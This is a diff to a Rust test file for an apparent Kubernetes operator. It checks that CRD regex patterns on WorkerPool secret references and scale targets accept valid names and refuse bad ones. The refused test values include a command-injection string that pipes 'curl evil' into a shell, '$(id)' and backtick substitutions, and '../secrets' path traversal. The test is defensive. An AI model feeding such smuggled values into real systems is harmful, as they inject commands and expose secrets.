@@ -1,7 +1,8 @@
-//! Each CEL rule accepts one object and refuses another.
+//! Each CEL rule and each pattern accepts one value and refuses another.
 use crate::tenant_ledger::{TenantLedger, TenantLedgerSpec};
 use crate::tenant_quota::{ResourceLimits, TenantQuota, TenantQuotaSpec};
 use crate::worker_pool::{QueueSource, WorkerPool, WorkerPoolSpec};
+use kube::CustomResourceExt;
 use serde_json::{Value, json};
 
 fn quota(name: &str, namespaces: &[&str]) -> TenantQuota {
@@ -63,4 +64,47 @@ fn the_epoch_never_goes_back() {
     let at = |epoch| TenantLedger::new("acme", TenantLedgerSpec { epoch, ..TenantLedgerSpec::default() });
     at(3).validate_cel_update(&at(2)).unwrap();
     assert!(refusal(at(2).validate_cel_update(&at(3))).contains("never goes back"));
+}
+
+/// A pattern is a regular expression as `matches` of CEL takes it, so the rules' own engine can try it.
+fn fits(field: &str, value: &str) -> bool {
+    let crd = serde_json::to_value(WorkerPool::crd()).unwrap();
+    let spec = &crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["spec"];
+    let schema = field.split('.').fold(spec, |schema, name| {
+        let schema = if schema["items"].is_object() { &schema["items"] } else { schema };
+        &schema["properties"][name]
+    });
+    let pattern = schema["pattern"].as_str().unwrap_or_else(|| panic!("{field} has no pattern"));
+    let rule = json!({ "rule": format!("self.matches('{pattern}')"), "message": field });
+    let length = usize::try_from(schema["maxLength"].as_u64().unwrap()).unwrap();
+    let schema = json!({ "type": "string", "x-kubernetes-validations": [rule] });
+    value.len() <= length && kube::core::cel::Validator::new().validate(&schema, &json!(value), None).is_ok()
+}
+
+#[test]
+fn names_that_are_printed_in_commands_are_names() {
+    let cases: [(&str, &[&str], &[&str]); 5] = [
+        (
+            "queueSources.redisStream.passwordSecretRef.name",
+            &["redis", "redis.v2-a"],
+            &["x;curl evil|sh", "$(id)", "a b", "-a", "a\nb", "A", "a..b"],
+        ),
+        ("queueSources.redisStream.passwordSecretRef.key", &["password", "Pass_word.v-1"], &["a b", "`id`", "a/b", ""]),
+        (
+            "scaleTargetRef.apiVersion",
+            &["v1", "apps/v1", "kwok.x-k8s.io/v1alpha1"],
+            &["apps/", "/v1", "a/b/v1", "apps/v1?x", ".."],
+        ),
+        ("scaleTargetRef.kind", &["Deployment", "VMReplicaSet"], &["../x", "Deploy ment", "9x", ""]),
+        ("scaleTargetRef.name", &["picker", "a.b-c"], &["../secrets", "a/b", "picker?x=y", "Picker", "a\n"]),
+    ];
+    for (field, good, bad) in cases {
+        for value in good {
+            assert!(fits(field, value), "{field} refuses {value:?}");
+        }
+        for value in bad {
+            assert!(!fits(field, value), "{field} accepts {value:?}");
+        }
+        assert!(!fits(field, &"a".repeat(254)), "{field} has no bound");
+    }
 }
